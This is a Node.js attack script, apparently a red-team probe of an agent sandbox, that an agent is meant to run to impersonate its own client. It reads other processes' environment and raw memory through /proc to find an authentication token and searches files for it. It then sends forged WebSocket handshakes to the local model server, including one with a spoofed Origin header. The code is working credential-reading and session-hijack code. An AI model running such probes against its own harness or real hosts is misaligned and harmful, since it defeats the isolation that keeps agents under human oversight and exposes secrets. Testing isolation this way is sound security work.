/* A command that an agent runs in its sandbox, and that wants to speak in the place of its client. Prints what it got. */
const { spawn } = require('node:child_process');
const { createHash, randomBytes } = require('node:crypto');
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');

const digestOf = (text) => createHash('sha256').update(text).digest('hex');
const asText = (octets) => octets.toString('latin1');

function processes() {
  return fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name) && name !== String(process.pid))
    .map((pid) => ({ pid, line: quietly(() => fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8')) ?? '' }));
}

function quietly(work) {
  try {
    return work();
  } catch {
    return undefined;
  }
}

/** Whether what hashes to this stands in a text. */
const holds = (text, digest) => (text.match(/[0-9a-f]{64}/g) ?? []).some((one) => digestOf(one) === digest);

/** Whether it stands in what a process shows of itself to others of its user; `undefined` where nothing was shown. */
function inProcess(pid, digest) {
  let seen;
  const look = (text) => {
    seen = seen === true || holds(text, digest);
  };
  for (const file of ['environ', 'cmdline']) {
    const text = quietly(() => fs.readFileSync(`/proc/${pid}/${file}`, 'latin1'));
    if (text !== undefined && holds(text, digest)) look(text);
  }
  const maps = quietly(() => fs.readFileSync(`/proc/${pid}/maps`, 'latin1')) ?? '';
  const memory = quietly(() => fs.openSync(`/proc/${pid}/mem`, 'r'));
  if (memory === undefined) return seen;
  for (const line of maps.split('\n').filter((one) => / rw/.test(one))) {
    const [from, to] = line
      .split(' ')[0]
      .split('-')
      .map((hex) => Number.parseInt(hex, 16));
    const part = Buffer.alloc(1 << 20);
    for (let at = from; at < to; at += part.length - 128) {
      const length = Math.min(part.length, to - at);
      const got = quietly(() => fs.readSync(memory, part, 0, length, at)) ?? 0;
      if (got > 0) look(asText(part.subarray(0, got)));
    }
  }
  fs.closeSync(memory);
  return seen;
}

/** Whether it stands in a file that can be read below a directory. */
function inFiles(directory, digest) {
  return (quietly(() => fs.readdirSync(directory, { withFileTypes: true })) ?? []).some((entry) => {
    const file = path.join(directory, entry.name);
    if (entry.isDirectory()) return inFiles(file, digest);
    return entry.isFile() && holds(quietly(() => fs.readFileSync(file, 'latin1')) ?? '', digest);
  });
}

/** Everything that is answered to a handshake with these headers and a request behind it. */
function knock(port, headers) {
  const request = Buffer.from(JSON.stringify({ id: 1, method: 'thread/start', params: {} }));
  const frame = Buffer.concat([Buffer.from([0x81, 0x80 | request.length, 0, 0, 0, 0]), request]);
  const head = [
    'GET / HTTP/1.1',
    `Host: 127.0.0.1:${port}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    ...headers,
  ];
  return new Promise((resolve) => {
    let said = '';
    const way = net.connect(port, '127.0.0.1', () => {
      way.write(`${head.join('\r\n')}\r\n\r\n`);
      way.end(frame);
    });
    way.setTimeout(3000, () => way.destroy());
    way.on('data', (chunk) => {
      said += asText(chunk);
    });
    way.on('error', () => {});
    way.on('close', () =>
      resolve(said.split('\r\n')[0].slice(0, 40) + (/"id"/.test(said) ? ' and an answer' : '')),
    );
  });
}

async function attack() {
  // What nobody hides is found: without that nothing was looked for.
  const secret = randomBytes(32).toString('hex');
  const open = spawn('/bin/sh', ['-c', 'read -r secret; echo there; read -r more']);
  open.stdin.write(`${secret}\n`);
  await new Promise((resolve) => open.stdout.once('data', resolve));
  const control = inProcess(open.pid, digestOf(secret));
  open.kill();

  const served = processes().find(({ line }) => line.includes('--ws-token-sha256'));
  const words = served?.line.split('\0') ?? [];
  const digest = words[words.indexOf('--ws-token-sha256') + 1] ?? '';
  const port = Number(/:(\d+)$/.exec(words[words.indexOf('--listen') + 1] ?? '')?.[1]);
  // The way to the model is there before anybody knows a token, and large.
  const others = processes().filter(({ line }) => !line.startsWith('/egress'));
  const connections = fs.readFileSync('/proc/net/tcp', 'utf8').split('\n').slice(1);
  const taken = others
    .filter(({ line }) => line.startsWith('/agent'))
    .flatMap(({ pid }) =>
      (quietly(() => fs.readdirSync(`/proc/${pid}/fd`)) ?? []).filter(
        (name) => quietly(() => fs.openSync(`/proc/${pid}/fd/${name}`, 'r')) !== undefined,
      ),
    );
  const knocks = Number.isNaN(port)
    ? []
    : [
        await knock(port, []),
        await knock(port, [`Authorization: Bearer ${'0'.repeat(64)}`]),
        await knock(port, [`Authorization: Bearer ${digest}`]),
        await knock(port, ['Origin: http://127.0.0.1']),
      ];
  return {
    control,
    found:
      others.some(({ pid }) => inProcess(pid, digest) === true) ||
      [process.env.HOME, '/tmp', '/agent-home', '/workspace'].some((place) => inFiles(place, digest)) ||
      Object.values(process.env).some((value) => holds(value, digest)),
    shown: others.filter(({ pid, line }) => line.startsWith('/agent') && inProcess(pid, digest) !== undefined)
      .length,
    taken: taken.length,
    knocks,
    // State 0A: it listens.
    listening: connections
      .map((line) => line.trim().split(/\s+/))
      .filter(([, , , state]) => state === '0A')
      .map(([, address]) => `${address.split(':')[0]}:${Number.parseInt(address.split(':')[1], 16)}`)
      .sort(),
  };
}

attack().then((got) => process.stdout.write(`got: ${JSON.stringify(got)}\n`));
